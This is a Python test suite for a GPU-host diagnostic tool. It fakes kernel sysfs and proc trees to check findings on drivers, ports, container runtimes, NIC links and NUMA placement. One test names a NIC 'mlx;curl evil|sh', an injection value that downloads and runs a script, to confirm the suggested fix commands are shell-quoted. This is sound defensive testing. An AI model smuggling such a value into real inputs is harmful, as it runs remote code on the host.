"""The doctor on a GPU host: every published machine laid out as its kernel shows it, healthy and broken."""

import json
import os
import shlex

import msgspec
import pytest
from tests.app.doctor.hosts import SOCKETS, WELL, examine_host, laid_out

from rackloom.app.doctor import DoctorSources, diagnose
from rackloom.cli.doctor import doctor
from rackloom.core.diagnosis.catalogue import Check
from rackloom.core.diagnosis.findings import CheckState, Severity
from rackloom.core.diagnosis.snapshot import ImexMeshRecord, NodeRecord, SiteSnapshot
from rackloom.errors import Refused
from rackloom.topology.join_key import Fact, Source
from rackloom.topology.machine import numa_of
from rackloom.topology.profiles import load_machine, machine_names

TRAY = "oci-bm.gpu.gb200-v3.4"
LISTENS = "   1: 00000000:C350 00000000:0000 0A\n"


@pytest.mark.slow
@pytest.mark.parametrize("name", machine_names())
def test_nothing_is_wrong_with_any_published_machine(name, tmp_path):
    assert examine_host(laid_out(tmp_path, load_machine(name))) == ()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "text", "check", "state"),
    [
        ("sys/module/nvidia/version", "550.54.15\n", Check.DRIVER, CheckState.FAILS),
        ("sys/module/nvidia/version", None, Check.DRIVER, CheckState.UNKNOWN),
        ("proc/1/net/tcp", SOCKETS + LISTENS, Check.PORTS, CheckState.FAILS),
        ("proc/1/net/tcp", None, Check.PORTS, CheckState.UNKNOWN),
        ("proc/71/comm", "nvidia-imex\n", Check.HOST_IMEX, CheckState.UNKNOWN),
        ("proc/70/comm", "crio\n", Check.CDI, CheckState.UNKNOWN),
        (
            "etc/systemd/system/multi-user.target.wants/nvidia-imex.service",
            "",
            Check.HOST_IMEX,
            CheckState.FAILS,
        ),
        ("proc/1/comm", None, Check.HOST_IMEX, CheckState.UNKNOWN),
        ("proc/devices", "Character devices:\n  1 mem\n", Check.CHANNELS, CheckState.FAILS),
        ("proc/devices", None, Check.CHANNELS, CheckState.UNKNOWN),
        ("etc/containerd/config.toml", "no toml [", Check.CDI, CheckState.UNKNOWN),
        ("etc/containerd/config.toml", None, Check.CDI, CheckState.UNKNOWN),
    ],
)
def test_each_fault_of_a_host_is_one_finding(path, text, check, state, tmp_path):
    changes = {path: text}
    if path == "proc/1/comm":
        changes |= {name: None for name in WELL if name.startswith("proc/1/")}
    root = laid_out(tmp_path, load_machine(TRAY), **changes)
    found = {finding.check: finding for finding in examine_host(root)}
    assert found[check].state is state
    assert found.keys() == {check}
    assert bool(found[check].consequences) is (path == "proc/1/comm")
    assert found[check].subject == f"host {load_machine(TRAY).name}"
    assert found[check].fix


@pytest.mark.slow
@pytest.mark.parametrize(
    ("runtime", "states"),
    [
        ("containerd://2.0.0", []),
        ("cri-o://1.31.0", []),
        ("containerd://1.7.0", [CheckState.FAILS]),
        (None, [CheckState.UNKNOWN]),
    ],
)
def test_a_runtime_left_as_it_comes_is_judged_by_what_its_node_says(runtime, states, tmp_path, monkeypatch):
    machine = load_machine(TRAY)
    nodes = (
        NodeRecord(name=machine.name, ready=True, runtime=runtime),
        NodeRecord(name="another", ready=True),
    )

    async def seen(sources, now):
        return SiteSnapshot(at=now, layers=(), nodes=nodes)

    monkeypatch.setattr("rackloom.app.doctor.read_snapshot", seen)
    root = laid_out(tmp_path, machine, **{"etc/containerd/config.toml": None})
    found = diagnose(DoctorSources(sysroot=root)).findings
    assert [(finding.check, finding.state) for finding in found] == [(Check.CDI, state) for state in states]


DAEMON = {
    "proc/71/comm": "nvidia-imex\n",
    "proc/71/cgroup": "0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-1.scope\n",
}


@pytest.mark.parametrize(
    ("reported", "checks"),
    [(None, [Check.MESH]), (True, []), (False, [])],
    ids=["silent", "complete", "broken"],
)
def test_the_mesh_of_a_pods_daemon_is_what_the_cluster_says_or_unknown(
    reported, checks, tmp_path, monkeypatch
):
    """Whether a reported mesh is complete is a finding of its ComputeDomain."""
    machine = load_machine(TRAY)
    mesh = ImexMeshRecord(domain="uid", node=machine.name, clique="c.1", complete=reported)

    async def seen(sources, now):
        return SiteSnapshot(
            at=now, layers=(), meshes=(mesh,), nodes=(NodeRecord(name=machine.name, ready=True),)
        )

    monkeypatch.setattr("rackloom.app.doctor.read_snapshot", seen)
    found = diagnose(DoctorSources(sysroot=laid_out(tmp_path, machine, **DAEMON))).findings
    assert [finding.check for finding in found] == checks
    assert all(finding.state is CheckState.UNKNOWN and "process 71" in finding.message for finding in found)


HIDDEN, SEEN = "azure-nd128isr-gb300-v6", "azure-nd96isr-h100-v5"
"""Machines of which the kernel does not show which NIC is near, and of which it does."""


@pytest.mark.parametrize("name", [HIDDEN, SEEN])
@pytest.mark.parametrize(
    ("file", "text", "state", "message"),
    [
        ("state", "1: DOWN\n", CheckState.FAILS, "its link is down"),
        ("state", "2: INIT\n", CheckState.FAILS, "its link is init"),
        ("rate", "100 Gb/sec (1X HDR)\n", CheckState.FAILS, "it runs at 100 Gb/s, its siblings at "),
        ("state", "?\n", CheckState.UNKNOWN, "its driver does not say whether its link is up"),
    ],
)
def test_the_port_of_a_gpus_nic_is_one_finding(file, text, state, message, name, tmp_path):
    root = laid_out(tmp_path, load_machine(name))
    port = root / "sys/class/infiniband/mlx5_0/ports/1"
    (port / "phys_state").write_text("2: Polling\n")
    (port / file).write_text(text)
    (found,) = examine_host(root)
    assert (found.check, found.state) == (Check.NIC_LINK, state)
    assert found.message.startswith(message)
    assert "(polling)" in found.evidence[0]
    assert found.fix.startswith("rdma link show mlx5_0  #")


def test_a_nic_that_serves_no_gpu_may_be_unplugged(tmp_path):
    root = laid_out(tmp_path, load_machine("aws-p5.48xlarge-h100x8-efa32"))
    (root / "sys/class/infiniband/rdmap80s0/ports/1/state").write_text("1: DOWN\n")
    assert examine_host(root) == ()


@pytest.mark.parametrize(
    ("state", "verdict"),
    [
        ("up", None),
        ("lowerlayerdown", CheckState.FAILS),
        ("unknown", CheckState.UNKNOWN),
        (None, CheckState.UNKNOWN),
    ],
)
def test_without_rdma_the_interface_tells(state, verdict, tmp_path):
    machine = load_machine(SEEN)
    plain = tuple(
        msgspec.structs.replace(nic, rdma_device=None, if_name=f"eth{nic.index}") for nic in machine.nics
    )
    root = laid_out(tmp_path, msgspec.structs.replace(machine, nics=plain))
    interface = root / "sys/class/net/eth0"
    if state is None:
        interface.unlink()
    else:
        (interface / "operstate").write_text(f"{state}\n")
    states = [finding.state for finding in examine_host(root) if finding.check == Check.NIC_LINK]
    assert states == ([] if verdict is None else [verdict])


def test_a_host_whose_name_is_a_pipe_is_refused_and_not_waited_for(tmp_path):
    root = laid_out(tmp_path, load_machine(TRAY))
    (root / "proc/sys/kernel/hostname").unlink()
    os.mkfifo(root / "proc/sys/kernel/hostname")
    with pytest.raises(Refused, match="holds no sys and proc"):
        doctor(sysroot=root)


def test_gpus_whose_processor_has_no_nic_are_one_finding(tmp_path):
    machine = load_machine("azure-nd96isr-h100-v5")
    elsewhere = Fact(0, Source.SYSFS)
    nics = tuple(msgspec.structs.replace(nic, numa_node=elsewhere, pcie=None) for nic in machine.nics)
    (found,) = examine_host(laid_out(tmp_path, msgspec.structs.replace(machine, nics=nics)))
    far = [gpu.index for gpu in machine.gpus if numa_of(gpu) == 1]
    assert (found.check, found.severity) == (Check.NIC_ALIGNED, Severity.WARNING)
    assert found.subject == ", ".join(f"{machine.name}/gpu-{gpu}" for gpu in far)
    assert len(found.evidence) == len(far) > 0


def test_links_of_a_mounted_host_stay_inside_it(tmp_path):
    """A host's absolute links lead into the pod that looks at it, unless followed below the root."""
    root = laid_out(tmp_path / "host", load_machine(TRAY), **{"etc/containerd/config.toml": None})
    (root / "opt").mkdir()
    (root / "opt/config.toml").write_text(WELL["etc/containerd/config.toml"])
    (root / "etc/containerd").mkdir(parents=True)
    (root / "etc/containerd/config.toml").symlink_to("/opt/config.toml")
    assert examine_host(root) == ()


def test_a_host_alone_is_examined(tmp_path, capsys):
    root = laid_out(tmp_path, load_machine(TRAY))
    assert doctor(sysroot=root) == 0
    assert capsys.readouterr().out == f"examined:\n  host: {load_machine(TRAY).name}\n\nall holds\n"
    (root / "sys/module/nvidia/version").write_text("550.54.15\n")
    assert doctor(sysroot=root, output="json") == 1
    reported = json.loads(capsys.readouterr().out)
    assert [finding["check"] for finding in reported["findings"]] == [Check.DRIVER]


def test_a_directory_that_is_no_hosts_is_refused(tmp_path):
    with pytest.raises(Refused, match="holds no sys and proc") as reported:
        doctor(sysroot=tmp_path)
    assert "/host" in reported.value.nearest_fix


def linked(root, links):
    """The root with these links in it."""
    for path, target in links.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).symlink_to(target)
    return root


def port(device, state, rate, layer="InfiniBand"):
    at = f"{device}/ports/1"
    reported = {"state": state, "phys_state": "5: LinkUp", "rate": rate, "link_layer": layer}
    return {f"{at}/{name}": f"{text}\n" for name, text in reported.items()}


def function(number, kind, **port_of):
    """A PCI function: its files and the links to it. Without a port it is a GPU."""
    at = f"sys/devices/pci0000:00/0000:00:0{number}"
    driver, vendor = ("mlx5_core", "0x15b3") if port_of else ("nvidia", "0x10de")
    files = {"class": kind, "vendor": vendor, "device": "0x2941", "numa_node": "0"}
    found = {f"{at}/{name}": f"{text}\n" for name, text in files.items()}
    links = {
        f"sys/bus/pci/devices/0000:00:0{number}": f"../../../devices/pci0000:00/0000:00:0{number}",
        f"{at}/driver": f"../../../bus/pci/drivers/{driver}",
    }
    if port_of:
        name = port_of.pop("name")
        found |= port(f"{at}/infiniband/{name}", **port_of)
        found[f"sys/class/infiniband_verbs/uverbs-{number}/ibdev"] = f"{name}\n"
        found[f"sys/class/infiniband_verbs/uverbs-{number}/dev"] = "231:192\n"
        links |= {
            f"{at}/infiniband/{name}/device": "../..",
            f"sys/class/infiniband/{name}": f"../../devices/pci0000:00/0000:00:0{number}/infiniband/{name}",
        }
    return found, links


GPU, INFINIBAND, ETHERNET = "0x030200", "0x020700", "0x020000"
FAST = {"state": "4: ACTIVE", "rate": "400 Gb/sec (4X NDR)"}
SLOW = {"state": "4: ACTIVE", "rate": "200 Gb/sec (4X HDR)"}
DOWN = {"state": "1: DOWN", "rate": "10 Gb/sec (4X SDR)"}
GPUS = [("1.0", GPU, {}), ("2.0", GPU, {})]


def built(root, *functions):
    """A host of these functions, the rest of which is well."""
    files, links = {"proc/sys/kernel/hostname": "n1\n"}, {}
    for number, kind, port_of in functions:
        more, to = function(number, kind, **port_of)
        files, links = files | more, links | to
    for path, text in (WELL | files).items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    (root / "sys/bus/pci/drivers/nvidia").mkdir(parents=True)
    (root / "sys/bus/pci/drivers/mlx5_core").mkdir(parents=True)
    return linked(root, links)


def test_a_virtual_function_of_a_nic_is_nobodys_rail(tmp_path):
    nics = [("3.0", INFINIBAND, {"name": "mlx5_0", **FAST}), ("3.1", INFINIBAND, {"name": "mlx5_1", **DOWN})]
    root = built(tmp_path, *GPUS, *nics)
    assert [finding.subject for finding in examine_host(root)] == ["NIC mlx5_1 of host n1"]
    linked(root, {"sys/devices/pci0000:00/0000:00:03.1/physfn": "../0000:00:03.0"})
    assert examine_host(root) == ()


@pytest.mark.parametrize(("layer", "slow"), [("Ethernet", []), ("InfiniBand", ["NIC mlx5_0 of host n1"])])
def test_a_link_is_as_fast_as_others_of_its_own_kind(layer, slow, tmp_path):
    nics = [
        ("3.0", ETHERNET, {"name": "mlx5_0", "layer": layer, **SLOW}),
        ("4.0", INFINIBAND, {"name": "mlx5_1", **FAST}),
    ]
    assert [finding.subject for finding in examine_host(built(tmp_path, *GPUS, *nics))] == slow


def test_without_gpus_no_nic_is_a_rail(tmp_path):
    assert examine_host(built(tmp_path, ("3.0", INFINIBAND, {"name": "mlx5_0", **DOWN}))) == ()


def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
    hostile = "mlx;curl evil|sh"
    root = built(tmp_path, *GPUS, ("3.0", INFINIBAND, {"name": hostile, **DOWN}))
    fixes = {finding.check: finding.fix for finding in examine_host(root)}
    assert shlex.split(fixes[Check.NIC_LINK], comments=True) == ["rdma", "link", "show", hostile]


@pytest.mark.parametrize(
    ("links", "checks"),
    [
        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026531836]"}, []),
        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]"}, [Check.HOST_IMEX]),
        ({"proc/1/ns/pid": "pid:[4026532001]"}, [Check.HOST_IMEX]),
        (
            {"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]", "proc/1/ns/pid": "pid:[4026531836]"},
            [],
        ),
    ],
    ids=["on the host", "in a container", "as root in a container", "the host's proc seen from a pod"],
)
def test_the_first_process_of_a_container_is_not_the_hosts(links, checks, tmp_path):
    found = examine_host(linked(laid_out(tmp_path, load_machine(TRAY)), links))
    assert [(finding.check, finding.state) for finding in found] == [
        (check, CheckState.UNKNOWN) for check in checks
    ]
